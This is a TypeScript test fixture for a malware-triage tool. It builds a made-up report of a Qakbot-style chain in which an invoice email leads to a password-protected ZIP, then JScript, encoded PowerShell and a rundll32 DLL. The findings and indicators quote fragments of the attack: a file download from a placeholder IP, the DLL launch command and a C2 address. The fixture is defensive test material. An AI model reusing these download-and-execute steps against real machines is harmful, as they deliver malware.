// A tacklebox report of a Qakbot-style chain, as `analyze --json` writes one, for testing the stages that read
// reports (exports, campaigns, hunting) without running the analyzers.

import type { Report } from '../../src/verdict/report.ts';

export function qakbotChainReport(over: Partial<Report> = {}): Report {
  const sha = (c: string) => c.repeat(64);
  return {
    schema: 'tacklebox.report/1',
    input: { name: 'report.eml', sha256: sha('1'), size: 4000, kind: 'email' },
    verdict: 'malicious',
    score: 2600,
    summary: 'email → link → ZIP (password from body) → JScript → powershell -enc → DLL (rundll32 ,Run)',
    simulation: null,
    email: { subject: 'Invoice 4411 past due', from: 'Accounts <billing@invoices-portal.example>', to: ['anna@corp.example'], messageId: '<x1@invoices-portal.example>', date: 'Tue, 10 Nov 2026 09:12:00 +0000' },
    findings: [
      { id: 'email.lure.invoice', title: 'Invoice lure', score: 150, attack: ['T1566.002'], artifact: 'a2', evidence: 'past due' },
      { id: 'jscript.exec.command', title: 'Script runs a command', score: 800, attack: ['T1059.007'], artifact: 'a5', evidence: 'WScript.Shell.Run("powershell -enc …")' },
      { id: 'powershell.download', title: 'Downloads a file', score: 600, attack: ['T1059.001', 'T1105'], artifact: 'a7', evidence: "DownloadFile('http://198.51.100.7/x.dat')" },
      { id: 'powershell.run.rundll32', title: 'Runs a DLL', score: 600, attack: ['T1218.011'], artifact: 'a7', evidence: 'rundll32 C:\\ProgramData\\x.dll,Run' },
    ],
    artifacts: [
      { id: 'a1', parent: null, relation: 'root', kind: 'email', name: 'report.eml', sha256: sha('1'), size: 4000, depth: 0 },
      { id: 'a2', parent: 'a1', relation: 'body', kind: 'text', name: 'body.txt', sha256: sha('2'), size: 300, depth: 1 },
      { id: 'a3', parent: 'a2', relation: 'link', kind: 'url', name: 'https://invoices-portal.example/d/inv4411.zip', sha256: sha('3'), size: 44, depth: 2 },
      { id: 'a4', parent: 'a3', relation: 'downloaded', kind: 'zip', name: 'inv4411.zip', sha256: sha('4'), size: 3000, depth: 3 },
      { id: 'a5', parent: 'a4', relation: 'extracted', kind: 'jscript', name: 'Invoice_4411.js', sha256: sha('5'), size: 9000, depth: 4 },
      { id: 'a6', parent: 'a5', relation: 'executed-command', kind: 'cmdline', name: 'command', sha256: sha('6'), size: 400, depth: 5 },
      { id: 'a7', parent: 'a6', relation: 'decoded', kind: 'powershell', name: 'layer1.ps1', sha256: sha('7'), size: 300, depth: 6 },
      { id: 'a8', parent: 'a7', relation: 'link', kind: 'url', name: 'http://198.51.100.7/x.dat', sha256: sha('8'), size: 25, depth: 7 },
    ],
    iocs: [
      { type: 'email', value: 'billing@invoices-portal.example', role: 'sender', artifact: 'a1' },
      { type: 'ip', value: '203.0.113.9', role: 'sending-ip', artifact: 'a1' },
      { type: 'url', value: 'https://invoices-portal.example/d/inv4411.zip', artifact: 'a3' },
      { type: 'domain', value: 'invoices-portal.example', artifact: 'a3' },
      { type: 'sha256', value: sha('5'), role: 'script', artifact: 'a5' },
      { type: 'url', value: 'http://198.51.100.7/x.dat', role: 'payload-url', artifact: 'a7' },
      { type: 'ip', value: '198.51.100.7', role: 'payload-url', artifact: 'a7' },
      { type: 'command', value: 'rundll32 C:\\ProgramData\\x.dll,Run', artifact: 'a7' },
      { type: 'ip', value: '192.0.2.44', port: 2222, role: 'c2', artifact: 'a7' },
      { type: 'domain', value: 'sharepoint.com', artifact: 'a2' },
      { type: 'domain', value: 'corp.example', artifact: 'a2' },
    ],
    passwords: [{ value: '4411', source: "email body after 'Password:'", opened: ['a4'] }],
    attack: ['T1059.001', 'T1059.007', 'T1105', 'T1218.011', 'T1566.002'],
    limits: [],
    errors: [],
    fingerprint: { body: null },
    elapsedMs: 12,
    ...over,
  };
}
